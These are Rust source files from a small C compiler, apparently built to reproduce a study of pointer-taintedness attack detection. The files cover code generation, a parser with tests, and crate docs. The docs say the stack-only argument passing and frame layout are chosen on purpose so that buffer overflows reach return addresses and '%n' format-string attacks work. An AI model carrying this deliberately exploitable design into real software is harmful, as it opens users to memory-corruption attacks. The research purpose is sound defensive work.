                    "slt $v0, $t1, $v0"
                });
                self.o("xori $v0, $v0, 1");
                result_ty = Type::Int;
            }
            BinOp::LogAnd | BinOp::LogOr => unreachable!("handled by short-circuit paths"),
        }
        Ok(result_ty)
    }

    fn gen_call(&mut self, callee: &Expr, args: &[Expr], line: u32) -> Result<Type, CcError> {
        // Direct call to a named function?
        let direct = match &callee.kind {
            ExprKind::Ident(name)
                if self.lookup(name).is_none() && self.funcs.contains_key(name) =>
            {
                Some(name.clone())
            }
            _ => None,
        };

        let (ret, params, variadic) = if let Some(name) = &direct {
            let sig = self.funcs.get(name).expect("checked").clone();
            (sig.ret, sig.params, sig.variadic)
        } else {
            let ty = self.gen_expr(callee)?;
            self.push_v0(); // callee address on the expression stack
            match strip_func_ptr(&ty) {
                Some(Type::Func {
                    ret,
                    params,
                    variadic,
                }) => ((**ret).clone(), params.clone(), *variadic),
                _ => {
                    return Err(CcError::new(
                        line,
                        "called object is not a function or function pointer",
                    ))
                }
            }
        };

        if args.len() < params.len() || (!variadic && args.len() != params.len()) {
            return Err(CcError::new(
                line,
                format!(
                    "wrong number of arguments: expected {}{}, got {}",
                    params.len(),
                    if variadic { "+" } else { "" },
                    args.len()
                ),
            ));
        }

        let argbytes = (args.len() as u32 * 4).max(4); // keep fp valid for 0-arg calls
        self.o(&format!("addiu $sp, $sp, -{argbytes}"));
        for (i, arg) in args.iter().enumerate() {
            self.gen_expr(arg)?;
            self.o(&format!("sw $v0, {}($sp)", 4 * i));
        }
        if let Some(name) = direct {
            self.o(&format!("jal {name}"));
            self.o(&format!("addiu $sp, $sp, {argbytes}"));
        } else {
            // Callee address was pushed before the argument area.
            self.o(&format!("lw $t9, {argbytes}($sp)"));
            self.o("jalr $t9");
            // Pop the argument area and the spilled callee address.
            self.o(&format!("addiu $sp, $sp, {}", argbytes + 4));
        }
        Ok(ret)
    }
}

fn promote(ty: &Type) -> Type {
    match ty {
        Type::Char => Type::Int,
        other => other.clone(),
    }
}

fn combine(l: &Type, r: &Type) -> Type {
    if l.is_pointer_like() {
        return l.clone();
    }
    if r.is_pointer_like() {
        return r.clone();
    }
    if matches!(l, Type::Uint) || matches!(r, Type::Uint) {
        Type::Uint
    } else {
        Type::Int
    }
}

fn strip_func_ptr(ty: &Type) -> Option<&Type> {
    match ty {
        Type::Func { .. } => Some(ty),
        Type::Ptr(inner) => match &**inner {
            f @ Type::Func { .. } => Some(f),
            _ => None,
        },
        _ => None,
    }
}
