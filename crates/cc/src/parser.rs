//! Recursive-descent parser for mini-C.

use std::collections::HashMap;

use crate::ast::{BinOp, Expr, ExprKind, GlobalInit, Item, Program, Stmt, StructDef, Type, UnOp};
use crate::lexer::{Token, TokenKind};
use crate::CcError;

/// Parses a token stream (from [`crate::lex`]) into a [`Program`].
///
/// # Errors
///
/// Returns a [`CcError`] at the offending line for syntax errors, duplicate
/// or unknown struct names, and malformed declarators.
pub fn parse(tokens: &[Token]) -> Result<Program, CcError> {
    Parser {
        tokens,
        pos: 0,
        structs: HashMap::new(),
    }
    .program()
}

struct Parser<'a> {
    tokens: &'a [Token],
    pos: usize,
    structs: HashMap<String, StructDef>,
}

impl<'a> Parser<'a> {
    fn peek(&self) -> &TokenKind {
        &self.tokens[self.pos].kind
    }

    fn peek2(&self) -> &TokenKind {
        &self.tokens[(self.pos + 1).min(self.tokens.len() - 1)].kind
    }

    fn line(&self) -> u32 {
        self.tokens[self.pos].line
    }

    fn bump(&mut self) -> &TokenKind {
        let k = &self.tokens[self.pos].kind;
        if self.pos + 1 < self.tokens.len() {
            self.pos += 1;
        }
        k
    }

    fn eat(&mut self, kind: &TokenKind) -> bool {
        if self.peek() == kind {
            self.bump();
            true
        } else {
            false
        }
    }

    fn expect(&mut self, kind: &TokenKind, what: &str) -> Result<(), CcError> {
        if self.eat(kind) {
            Ok(())
        } else {
            Err(self.err(format!("expected {what}, found {:?}", self.peek())))
        }
    }

    fn err(&self, msg: impl Into<String>) -> CcError {
        CcError::new(self.line(), msg)
    }

    fn ident(&mut self, what: &str) -> Result<String, CcError> {
        match self.peek().clone() {
            TokenKind::Ident(name) => {
                self.bump();
                Ok(name)
            }
            other => Err(self.err(format!("expected {what}, found {other:?}"))),
        }
    }

    fn is_kw(&self, kw: &str) -> bool {
        matches!(self.peek(), TokenKind::Ident(s) if s == kw)
    }

    fn eat_kw(&mut self, kw: &str) -> bool {
        if self.is_kw(kw) {
            self.bump();
            true
        } else {
            false
        }
    }

    /// Whether the current token starts a type.
    fn at_type(&self) -> bool {
        matches!(self.peek(), TokenKind::Ident(s)
            if matches!(s.as_str(), "void" | "int" | "unsigned" | "char" | "struct"))
    }

    // ---------------- types ----------------

    /// Parses the base type: `void | int | unsigned [int] | [unsigned] char |
    /// struct NAME`.
    fn base_type(&mut self) -> Result<Type, CcError> {
        if self.eat_kw("void") {
            return Ok(Type::Void);
        }
        if self.eat_kw("int") {
            return Ok(Type::Int);
        }
        if self.eat_kw("char") {
            return Ok(Type::Char);
        }
        if self.eat_kw("unsigned") {
            if self.eat_kw("char") {
                // `unsigned char` is represented as plain `char`; loads are
                // sign-extended, so guest code masks with `& 0xff` where the
                // distinction matters.
                return Ok(Type::Char);
            }
            let _ = self.eat_kw("int");
            return Ok(Type::Uint);
        }
        if self.eat_kw("struct") {
            let name = self.ident("struct name")?;
            return Ok(Type::Struct(name));
        }
        Err(self.err(format!("expected a type, found {:?}", self.peek())))
    }

    /// Parses `'*'*` after a base type.
    fn pointers(&mut self, mut ty: Type) -> Type {
        while self.eat(&TokenKind::Star) {
            ty = ty.ptr();
        }
        ty
    }

    /// Parses a declarator after base+pointers: either `name [N]...` or the
    /// function-pointer form `(*name)(params)`. Returns `(type, name)`.
    fn declarator(&mut self, base: Type) -> Result<(Type, String), CcError> {
        if self.peek() == &TokenKind::LParen && self.peek2() == &TokenKind::Star {
            // T (*name)(params)  or the array form  T (*name[N])(params)
            self.bump(); // (
            self.bump(); // *
            let name = self.ident("function pointer name")?;
            let mut array_dim = None;
            if self.eat(&TokenKind::LBracket) {
                match self.bump().clone() {
                    TokenKind::Int(n) if n >= 0 => array_dim = Some(n as u32),
                    _ => return Err(self.err("array size must be a literal integer")),
                }
                self.expect(&TokenKind::RBracket, "`]`")?;
            }
            self.expect(&TokenKind::RParen, "`)`")?;
            self.expect(&TokenKind::LParen, "`(`")?;
            let (params, variadic) = self.param_types()?;
            let fptr = Type::Func {
                ret: Box::new(base),
                params,
                variadic,
            }
            .ptr();
            let ty = match array_dim {
                Some(n) => Type::Array(Box::new(fptr), n),
                None => fptr,
            };
            Ok((ty, name))
        } else {
            let name = self.ident("declarator name")?;
            let mut dims = Vec::new();
            while self.eat(&TokenKind::LBracket) {
                let n = match self.bump().clone() {
                    TokenKind::Int(n) if n >= 0 => n as u32,
                    _ => return Err(self.err("array size must be a literal integer")),
                };
                self.expect(&TokenKind::RBracket, "`]`")?;
                dims.push(n);
            }
            let mut ty = base;
            for &n in dims.iter().rev() {
                ty = Type::Array(Box::new(ty), n);
            }
            Ok((ty, name))
        }
    }

    /// Parses a parenthesized parameter *type* list (for function pointers).
    fn param_types(&mut self) -> Result<(Vec<Type>, bool), CcError> {
        let mut params = Vec::new();
        let mut variadic = false;
        if self.eat(&TokenKind::RParen) {
            return Ok((params, variadic));
        }
        if self.is_kw("void") && self.peek2() == &TokenKind::RParen {
            self.bump();
            self.bump();
            return Ok((params, variadic));
        }
        loop {
            if self.eat(&TokenKind::Ellipsis) {
                variadic = true;
                break;
            }
            let base = self.base_type()?;
            let ty = self.pointers(base);
            // Optional parameter name.
            if matches!(self.peek(), TokenKind::Ident(s) if !is_keyword(s)) {
                self.bump();
            }
            params.push(ty);
            if !self.eat(&TokenKind::Comma) {
                break;
            }
        }
        self.expect(&TokenKind::RParen, "`)`")?;
        Ok((params, variadic))
    }

    // ---------------- top level ----------------

    fn program(mut self) -> Result<Program, CcError> {
        let mut items = Vec::new();
        while self.peek() != &TokenKind::Eof {
            if self.is_kw("struct") && matches!(self.peek2(), TokenKind::Ident(_)) {
                // Could be a struct *definition* (`struct X { ... };`) or a
                // declaration using the struct type.
                let save = self.pos;
                self.bump();
                let name = self.ident("struct name")?;
                if self.peek() == &TokenKind::LBrace {
                    self.struct_def(name)?;
                    continue;
                }
                self.pos = save;
            }
            items.extend(self.top_level_decl()?);
        }
        Ok(Program {
            items,
            structs: self.structs,
        })
    }

    fn struct_def(&mut self, name: String) -> Result<(), CcError> {
        let line = self.line();
        self.expect(&TokenKind::LBrace, "`{`")?;
        let mut fields = Vec::new();
        let mut offset = 0u32;
        let mut align = 1u32;
        while !self.eat(&TokenKind::RBrace) {
            let base = self.base_type()?;
            loop {
                let with_ptrs = self.pointers(base.clone());
                let (ty, fname) = self.declarator(with_ptrs)?;
                let a = ty.align_of(&self.structs);
                let size = ty.size_of(&self.structs);
                offset = offset.div_ceil(a) * a;
                fields.push((fname, offset, ty));
                offset += size;
                align = align.max(a);
                if !self.eat(&TokenKind::Comma) {
                    break;
                }
            }
            self.expect(&TokenKind::Semi, "`;`")?;
        }
        self.expect(&TokenKind::Semi, "`;` after struct definition")?;
        let size = offset.div_ceil(align) * align;
        if self
            .structs
            .insert(
                name.clone(),
                StructDef {
                    fields,
                    size,
                    align,
                },
            )
            .is_some()
        {
            return Err(CcError::new(line, format!("duplicate struct `{name}`")));
        }
        Ok(())
    }

    fn top_level_decl(&mut self) -> Result<Vec<Item>, CcError> {
        let line = self.line();
        let base = self.base_type()?;
        let with_ptrs = self.pointers(base.clone());
        let (ty, name) = self.declarator(with_ptrs)?;

        // Function definition or prototype? (A `(*name)(..)` declarator has
        // already consumed its parentheses and produced a Ptr(Func); a
        // trailing `(` after any other declarator starts a parameter list.)
        let is_func_ptr_decl =
            matches!(&ty, Type::Ptr(inner) if matches!(**inner, Type::Func { .. }));
        if self.peek() == &TokenKind::LParen && !is_func_ptr_decl {
            self.bump();
            let (params, variadic) = self.named_params()?;
            if self.eat(&TokenKind::Semi) {
                return Ok(vec![Item::Func {
                    ret: ty,
                    name,
                    params,
                    variadic,
                    body: None,
                    line,
                }]);
            }
            self.expect(&TokenKind::LBrace, "`{` or `;`")?;
            let body = self.block_body()?;
            return Ok(vec![Item::Func {
                ret: ty,
                name,
                params,
                variadic,
                body: Some(body),
                line,
            }]);
        }

        // Global variable(s).
        let mut items = Vec::new();
        let mut current = (ty, name);
        loop {
            let init = if self.eat(&TokenKind::Eq) {
                Some(self.global_init()?)
            } else {
                None
            };
            items.push(Item::Global {
                ty: current.0,
                name: current.1,
                init,
                line,
            });
            if !self.eat(&TokenKind::Comma) {
                break;
            }
            let with_ptrs = self.pointers(base.clone());
            current = self.declarator(with_ptrs)?;
        }
        self.expect(&TokenKind::Semi, "`;`")?;
        Ok(items)
    }

    fn named_params(&mut self) -> Result<(Vec<(Type, String)>, bool), CcError> {
        let mut params = Vec::new();
        let mut variadic = false;
        if self.eat(&TokenKind::RParen) {
            return Ok((params, variadic));
        }
        if self.is_kw("void") && self.peek2() == &TokenKind::RParen {
            self.bump();
            self.bump();
            return Ok((params, variadic));
        }
        loop {
            if self.eat(&TokenKind::Ellipsis) {
                variadic = true;
                break;
            }
            let base = self.base_type()?;
            let with_ptrs = self.pointers(base);
            // Prototypes may omit names.
            if matches!(self.peek(), TokenKind::Ident(s) if !is_keyword(s))
                || (self.peek() == &TokenKind::LParen && self.peek2() == &TokenKind::Star)
            {
                let (ty, name) = self.declarator(with_ptrs)?;
                // Array parameters decay to pointers.
                let ty = match ty {
                    Type::Array(elem, _) => Type::Ptr(elem),
                    other => other,
                };
                params.push((ty, name));
            } else {
                params.push((with_ptrs, String::new()));
            }
            if !self.eat(&TokenKind::Comma) {
                break;
            }
        }
        self.expect(&TokenKind::RParen, "`)`")?;
        Ok((params, variadic))
    }

    fn global_init(&mut self) -> Result<GlobalInit, CcError> {
        match self.peek().clone() {
            TokenKind::Str(s) => {
                self.bump();
                Ok(GlobalInit::Str(s))
            }
            TokenKind::LBrace => {
                self.bump();
                let mut values = Vec::new();
                if !self.eat(&TokenKind::RBrace) {
                    loop {
                        values.push(self.const_int()?);
                        if !self.eat(&TokenKind::Comma) {
                            break;
                        }
                    }
                    self.expect(&TokenKind::RBrace, "`}`")?;
                }
                Ok(GlobalInit::List(values))
            }
            _ => Ok(GlobalInit::Int(self.const_int()?)),
        }
    }

    fn const_int(&mut self) -> Result<i64, CcError> {
        let neg = self.eat(&TokenKind::Minus);
        match self.bump().clone() {
            TokenKind::Int(v) => Ok(if neg { -v } else { v }),
            other => Err(self.err(format!("expected an integer constant, found {other:?}"))),
        }
    }

    // ---------------- statements ----------------

    fn block_body(&mut self) -> Result<Vec<Stmt>, CcError> {
        let mut stmts = Vec::new();
        while !self.eat(&TokenKind::RBrace) {
            if self.peek() == &TokenKind::Eof {
                return Err(self.err("unexpected end of input inside a block"));
            }
            stmts.push(self.stmt()?);
        }
        Ok(stmts)
    }

    fn stmt(&mut self) -> Result<Stmt, CcError> {
        let line = self.line();
        if self.eat(&TokenKind::Semi) {
            return Ok(Stmt::Empty);
        }
        if self.eat(&TokenKind::LBrace) {
            return Ok(Stmt::Block(self.block_body()?));
        }
        if self.at_type() {
            let stmt = self.local_decl()?;
            self.expect(&TokenKind::Semi, "`;`")?;
            return Ok(stmt);
        }
        if self.eat_kw("if") {
            self.expect(&TokenKind::LParen, "`(`")?;
            let cond = self.expr()?;
            self.expect(&TokenKind::RParen, "`)`")?;
            let then = Box::new(self.stmt()?);
            let els = if self.eat_kw("else") {
                Some(Box::new(self.stmt()?))
            } else {
                None
            };
            return Ok(Stmt::If { cond, then, els });
        }
        if self.eat_kw("while") {
            self.expect(&TokenKind::LParen, "`(`")?;
            let cond = self.expr()?;
            self.expect(&TokenKind::RParen, "`)`")?;
            let body = Box::new(self.stmt()?);
            return Ok(Stmt::While { cond, body });
        }
        if self.eat_kw("do") {
            let body = Box::new(self.stmt()?);
            if !self.eat_kw("while") {
                return Err(self.err("expected `while` after `do` body"));
            }
            self.expect(&TokenKind::LParen, "`(`")?;
            let cond = self.expr()?;
            self.expect(&TokenKind::RParen, "`)`")?;
            self.expect(&TokenKind::Semi, "`;`")?;
            return Ok(Stmt::DoWhile { body, cond });
        }
        if self.eat_kw("for") {
            self.expect(&TokenKind::LParen, "`(`")?;
            let init = if self.eat(&TokenKind::Semi) {
                None
            } else if self.at_type() {
                let d = self.local_decl()?;
                self.expect(&TokenKind::Semi, "`;`")?;
                Some(Box::new(d))
            } else {
                let e = self.expr()?;
                self.expect(&TokenKind::Semi, "`;`")?;
                Some(Box::new(Stmt::Expr(e)))
            };
            let cond = if self.peek() == &TokenKind::Semi {
                None
            } else {
                Some(self.expr()?)
            };
            self.expect(&TokenKind::Semi, "`;`")?;
            let step = if self.peek() == &TokenKind::RParen {
                None
            } else {
                Some(self.expr()?)
            };
            self.expect(&TokenKind::RParen, "`)`")?;
            let body = Box::new(self.stmt()?);
            return Ok(Stmt::For {
                init,
                cond,
                step,
                body,
            });
        }
        if self.eat_kw("return") {
            let value = if self.peek() == &TokenKind::Semi {
                None
            } else {
                Some(self.expr()?)
            };
            self.expect(&TokenKind::Semi, "`;`")?;
            return Ok(Stmt::Return(value, line));
        }
        if self.eat_kw("break") {
            self.expect(&TokenKind::Semi, "`;`")?;
            return Ok(Stmt::Break(line));
        }
        if self.eat_kw("continue") {
            self.expect(&TokenKind::Semi, "`;`")?;
            return Ok(Stmt::Continue(line));
        }
        let e = self.expr()?;
        self.expect(&TokenKind::Semi, "`;`")?;
        Ok(Stmt::Expr(e))
    }

    fn local_decl(&mut self) -> Result<Stmt, CcError> {
        let base = self.base_type()?;
        let mut decls = Vec::new();
        loop {
            let with_ptrs = self.pointers(base.clone());
            let (ty, name) = self.declarator(with_ptrs)?;
            let init = if self.eat(&TokenKind::Eq) {
                Some(self.assign_expr()?)
            } else {
                None
            };
            decls.push((ty, name, init));
            if !self.eat(&TokenKind::Comma) {
                break;
            }
        }
        Ok(Stmt::Decl(decls))
    }

    // ---------------- expressions ----------------

    fn expr(&mut self) -> Result<Expr, CcError> {
        self.assign_expr()
    }

    fn assign_expr(&mut self) -> Result<Expr, CcError> {
        let lhs = self.ternary_expr()?;
        let line = self.line();
        let op = match self.peek() {
            TokenKind::Eq => None,
            TokenKind::PlusEq => Some(BinOp::Add),
            TokenKind::MinusEq => Some(BinOp::Sub),
            TokenKind::StarEq => Some(BinOp::Mul),
            TokenKind::SlashEq => Some(BinOp::Div),
            TokenKind::PercentEq => Some(BinOp::Rem),
            TokenKind::AmpEq => Some(BinOp::And),
            TokenKind::PipeEq => Some(BinOp::Or),
            TokenKind::CaretEq => Some(BinOp::Xor),
            TokenKind::ShlEq => Some(BinOp::Shl),
            TokenKind::ShrEq => Some(BinOp::Shr),
            _ => return Ok(lhs),
        };
        self.bump();
        let rhs = self.assign_expr()?;
        Ok(Expr {
            kind: ExprKind::Assign(op, Box::new(lhs), Box::new(rhs)),
            line,
        })
    }

    fn ternary_expr(&mut self) -> Result<Expr, CcError> {
        let cond = self.binary_expr(0)?;
        if self.eat(&TokenKind::Question) {
            let line = self.line();
            let a = self.expr()?;
            self.expect(&TokenKind::Colon, "`:`")?;
            let b = self.ternary_expr()?;
            return Ok(Expr {
                kind: ExprKind::Ternary(Box::new(cond), Box::new(a), Box::new(b)),
                line,
            });
        }
        Ok(cond)
    }

    /// Precedence-climbing for binary operators.
    fn binary_expr(&mut self, min_prec: u8) -> Result<Expr, CcError> {
        let mut lhs = self.unary_expr()?;
        loop {
            let (op, prec) = match self.peek() {
                TokenKind::OrOr => (BinOp::LogOr, 1),
                TokenKind::AndAnd => (BinOp::LogAnd, 2),
                TokenKind::Pipe => (BinOp::Or, 3),
                TokenKind::Caret => (BinOp::Xor, 4),
                TokenKind::Amp => (BinOp::And, 5),
                TokenKind::EqEq => (BinOp::Eq, 6),
                TokenKind::NotEq => (BinOp::Ne, 6),
                TokenKind::Lt => (BinOp::Lt, 7),
                TokenKind::Le => (BinOp::Le, 7),
                TokenKind::Gt => (BinOp::Gt, 7),
                TokenKind::Ge => (BinOp::Ge, 7),
                TokenKind::Shl => (BinOp::Shl, 8),
                TokenKind::Shr => (BinOp::Shr, 8),
                TokenKind::Plus => (BinOp::Add, 9),
                TokenKind::Minus => (BinOp::Sub, 9),
                TokenKind::Star => (BinOp::Mul, 10),
                TokenKind::Slash => (BinOp::Div, 10),
                TokenKind::Percent => (BinOp::Rem, 10),
                _ => break,
            };
            if prec < min_prec {
                break;
            }
            let line = self.line();
            self.bump();
            let rhs = self.binary_expr(prec + 1)?;
            lhs = Expr {
                kind: ExprKind::Binary(op, Box::new(lhs), Box::new(rhs)),
                line,
            };
        }
        Ok(lhs)
    }

    fn unary_expr(&mut self) -> Result<Expr, CcError> {
        let line = self.line();
        // Cast: '(' type ... ')'
        if self.peek() == &TokenKind::LParen {
            let save = self.pos;
            self.bump();
            if self.at_type() {
                let base = self.base_type()?;
                let mut ty = self.pointers(base);
                // Function-pointer cast: (T (*)(params))
                if self.peek() == &TokenKind::LParen && self.peek2() == &TokenKind::Star {
                    self.bump();
                    self.bump();
                    self.expect(&TokenKind::RParen, "`)`")?;
                    self.expect(&TokenKind::LParen, "`(`")?;
                    let (params, variadic) = self.param_types()?;
                    ty = Type::Func {
                        ret: Box::new(ty),
                        params,
                        variadic,
                    }
                    .ptr();
                }
                self.expect(&TokenKind::RParen, "`)` after cast type")?;
                let inner = self.unary_expr()?;
                return Ok(Expr {
                    kind: ExprKind::Cast(ty, Box::new(inner)),
                    line,
                });
            }
            self.pos = save;
        }

        if self.eat(&TokenKind::Minus) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::Unary(UnOp::Neg, Box::new(e)),
                line,
            });
        }
        if self.eat(&TokenKind::Bang) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::Unary(UnOp::Not, Box::new(e)),
                line,
            });
        }
        if self.eat(&TokenKind::Tilde) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::Unary(UnOp::BitNot, Box::new(e)),
                line,
            });
        }
        if self.eat(&TokenKind::Star) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::Unary(UnOp::Deref, Box::new(e)),
                line,
            });
        }
        if self.eat(&TokenKind::Amp) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::Unary(UnOp::Addr, Box::new(e)),
                line,
            });
        }
        if self.eat(&TokenKind::PlusPlus) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::PreIncDec(true, Box::new(e)),
                line,
            });
        }
        if self.eat(&TokenKind::MinusMinus) {
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::PreIncDec(false, Box::new(e)),
                line,
            });
        }
        if self.eat_kw("sizeof") {
            if self.peek() == &TokenKind::LParen {
                let save = self.pos;
                self.bump();
                if self.at_type() {
                    let base = self.base_type()?;
                    let mut ty = self.pointers(base);
                    // sizeof(T[N]) is not needed; arrays appear via exprs.
                    if let TokenKind::LBracket = self.peek() {
                        self.bump();
                        if let TokenKind::Int(n) = self.bump().clone() {
                            self.expect(&TokenKind::RBracket, "`]`")?;
                            ty = Type::Array(Box::new(ty), n as u32);
                        } else {
                            return Err(self.err("array size must be a literal"));
                        }
                    }
                    self.expect(&TokenKind::RParen, "`)`")?;
                    return Ok(Expr {
                        kind: ExprKind::SizeofType(ty),
                        line,
                    });
                }
                self.pos = save;
            }
            let e = self.unary_expr()?;
            return Ok(Expr {
                kind: ExprKind::SizeofExpr(Box::new(e)),
                line,
            });
        }
        self.postfix_expr()
    }

    fn postfix_expr(&mut self) -> Result<Expr, CcError> {
        let mut e = self.primary_expr()?;
        loop {
            let line = self.line();
            if self.eat(&TokenKind::LParen) {
                let mut args = Vec::new();
                if !self.eat(&TokenKind::RParen) {
                    loop {
                        args.push(self.assign_expr()?);
                        if !self.eat(&TokenKind::Comma) {
                            break;
                        }
                    }
                    self.expect(&TokenKind::RParen, "`)`")?;
                }
                e = Expr {
                    kind: ExprKind::Call(Box::new(e), args),
                    line,
                };
            } else if self.eat(&TokenKind::LBracket) {
                let idx = self.expr()?;
                self.expect(&TokenKind::RBracket, "`]`")?;
                e = Expr {
                    kind: ExprKind::Index(Box::new(e), Box::new(idx)),
                    line,
                };
            } else if self.eat(&TokenKind::Dot) {
                let field = self.ident("field name")?;
                e = Expr {
                    kind: ExprKind::Member {
                        base: Box::new(e),
                        field,
                        arrow: false,
                    },
                    line,
                };
            } else if self.eat(&TokenKind::Arrow) {
                let field = self.ident("field name")?;
                e = Expr {
                    kind: ExprKind::Member {
                        base: Box::new(e),
                        field,
                        arrow: true,
                    },
                    line,
                };
            } else if self.eat(&TokenKind::PlusPlus) {
                e = Expr {
                    kind: ExprKind::PostIncDec(true, Box::new(e)),
                    line,
                };
            } else if self.eat(&TokenKind::MinusMinus) {
                e = Expr {
                    kind: ExprKind::PostIncDec(false, Box::new(e)),
                    line,
                };
            } else {
                return Ok(e);
            }
        }
    }

    fn primary_expr(&mut self) -> Result<Expr, CcError> {
        let line = self.line();
        match self.peek().clone() {
            TokenKind::Int(v) => {
                self.bump();
                Ok(Expr {
                    kind: ExprKind::Int(v),
                    line,
                })
            }
            TokenKind::Str(s) => {
                self.bump();
                Ok(Expr {
                    kind: ExprKind::Str(s),
                    line,
                })
            }
            TokenKind::Ident(name) => {
                if is_keyword(&name) {
                    return Err(self.err(format!("unexpected keyword `{name}` in expression")));
                }
                self.bump();
                Ok(Expr {
                    kind: ExprKind::Ident(name),
                    line,
                })
            }
            TokenKind::LParen => {
                self.bump();
                let e = self.expr()?;
                self.expect(&TokenKind::RParen, "`)`")?;
                Ok(e)
            }
            other => Err(self.err(format!("unexpected token {other:?} in expression"))),
        }
    }
}

fn is_keyword(s: &str) -> bool {
    matches!(
        s,
        "void"
            | "int"
            | "unsigned"
            | "char"
            | "struct"
            | "if"
            | "else"
            | "while"
            | "do"
            | "for"
            | "return"
            | "break"
            | "continue"
            | "sizeof"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lex;

    fn parse_ok(src: &str) -> Program {
        parse(&lex(src).unwrap()).unwrap_or_else(|e| panic!("parse failed: {e}"))
    }

    #[test]
    fn function_definition_and_prototype() {
        let p = parse_ok(
            "int recv(int s, char *buf, int len, int flags);
             int main(void) { return 0; }",
        );
        assert_eq!(p.items.len(), 2);
        match &p.items[0] {
            Item::Func {
                name, body, params, ..
            } => {
                assert_eq!(name, "recv");
                assert!(body.is_none());
                assert_eq!(params.len(), 4);
                assert_eq!(params[1].0, Type::Char.ptr());
            }
            other => panic!("expected prototype, got {other:?}"),
        }
    }

    #[test]
    fn variadic_prototype() {
        let p = parse_ok("int printf(char *fmt, ...);");
        match &p.items[0] {
            Item::Func { variadic, .. } => assert!(variadic),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn globals_with_initializers() {
        let p = parse_ok(
            r#"int uid = -1;
               char banner[16] = "hello";
               int table[3] = {1, 2, 3};
               char *msg = "hi";
               int a, b = 7;"#,
        );
        assert_eq!(p.items.len(), 6);
        match &p.items[0] {
            Item::Global { init, .. } => assert_eq!(init, &Some(GlobalInit::Int(-1))),
            other => panic!("{other:?}"),
        }
        match &p.items[2] {
            Item::Global { init, .. } => {
                assert_eq!(init, &Some(GlobalInit::List(vec![1, 2, 3])));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn struct_layout() {
        let p =
            parse_ok("struct chunk { int size; struct chunk *fd; struct chunk *bk; char tag; };");
        let def = &p.structs["chunk"];
        assert_eq!(def.field("size").unwrap().0, 0);
        assert_eq!(def.field("fd").unwrap().0, 4);
        assert_eq!(def.field("bk").unwrap().0, 8);
        assert_eq!(def.field("tag").unwrap().0, 12);
        assert_eq!(def.size, 16); // padded to 4
        assert_eq!(def.align, 4);
    }

    #[test]
    fn statements_parse() {
        parse_ok(
            "int main() {
                int i; int sum = 0;
                for (i = 0; i < 10; i++) { sum += i; }
                while (sum > 0) { sum--; if (sum == 5) break; else continue; }
                do { sum++; } while (sum < 3);
                return sum;
            }",
        );
    }

    #[test]
    fn expression_precedence_shape() {
        let p = parse_ok("int main() { return 1 + 2 * 3; }");
        let Item::Func {
            body: Some(body), ..
        } = &p.items[0]
        else {
            panic!()
        };
        let Stmt::Return(Some(e), _) = &body[0] else {
            panic!()
        };
        // Must be Add(1, Mul(2, 3)).
        match &e.kind {
            ExprKind::Binary(BinOp::Add, l, r) => {
                assert!(matches!(l.kind, ExprKind::Int(1)));
                assert!(matches!(r.kind, ExprKind::Binary(BinOp::Mul, _, _)));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn casts_and_sizeof() {
        parse_ok(
            "int main() {
                char *p; int n;
                p = (char*)0x10000000;
                n = *(int*)p;
                n = sizeof(int);
                n = sizeof(struct x);
                n = sizeof p;
                n = (int)p + (unsigned)n;
                return n;
            }
            struct x { int a; };",
        );
    }

    #[test]
    fn function_pointers() {
        let p = parse_ok(
            "int handler(int x) { return x; }
             int main() {
                int (*fp)(int);
                fp = handler;
                return fp(3) + (*fp)(4);
             }",
        );
        assert_eq!(p.items.len(), 2);
    }

    #[test]
    fn member_access_chains() {
        parse_ok(
            "struct chunk { struct chunk *fd; struct chunk *bk; };
             int main() {
                struct chunk c; struct chunk *p;
                p = &c;
                p->fd->bk = p->bk;
                c.fd = p;
                return 0;
             }",
        );
    }

    #[test]
    fn parse_errors_have_lines() {
        let err = parse(&lex("int main() {\n  return 1 +;\n}").unwrap()).unwrap_err();
        assert_eq!(err.line, 2);
        assert!(parse(&lex("int x[zzz];").unwrap()).is_err());
        assert!(parse(&lex("struct s { int a; }; struct s { int b; };").unwrap()).is_err());
        assert!(parse(&lex("int f( {").unwrap()).is_err());
    }

    #[test]
    fn ternary_and_logical() {
        parse_ok("int main() { int a = 1; return a ? a && 2 : a || 3; }");
    }
}
