#![warn(missing_docs)]

//! # ptaint-cc — a mini-C compiler targeting the ptaint ISA
//!
//! The DSN 2005 paper evaluates pointer-taintedness detection on *compiled
//! binaries*: the attacks corrupt saved return addresses, heap chunk links
//! walked by `free()`, and the `ap` argument pointer inside `vfprintf`. To
//! reproduce those code paths faithfully we need real compiled code with
//! real stack frames — so this crate implements a small C compiler from
//! scratch.
//!
//! ## Language
//!
//! A practical C subset:
//!
//! * types: `void`, `int`, `unsigned`, `char`, multi-level pointers, sized
//!   arrays, named `struct`s (declared at file scope), function pointers;
//! * declarations: globals (with scalar/string initializers), locals,
//!   functions, prototypes, **variadic functions** (`...`);
//! * statements: blocks, `if`/`else`, `while`, `do`/`while`, `for`,
//!   `return`, `break`, `continue`;
//! * expressions: the full C operator set short of the comma operator —
//!   assignment (simple and compound), ternary, logical/bitwise/relational/
//!   shift/additive/multiplicative, casts, `sizeof`, `&`/`*`, array
//!   indexing, `.`/`->`, pre/post `++`/`--`, calls through names and
//!   function pointers;
//! * no preprocessor (guest sources are written without `#include`).
//!
//! ## ABI (shared with the hand-written assembly in `ptaint-guest`)
//!
//! * **All arguments are passed on the stack**, 4 bytes each, `arg i` at
//!   `fp + 4*i` of the callee. This is what makes `printf`-style varargs —
//!   and therefore the paper's format-string attack through `%n` — work
//!   exactly as in the original vulnerable C libraries: the callee walks an
//!   argument pointer up its caller's frame.
//! * Frame layout (high → low): incoming args (at/above `fp`), saved `$ra`
//!   at `fp-4`, saved `$fp` at `fp-8`, locals below, in declaration order
//!   from high to low addresses. A local buffer therefore overflows *upward*
//!   into later-declared^H^H earlier-declared locals, then the saved frame
//!   pointer, then the **return address** — the exact layout of the paper's
//!   Figure 2.
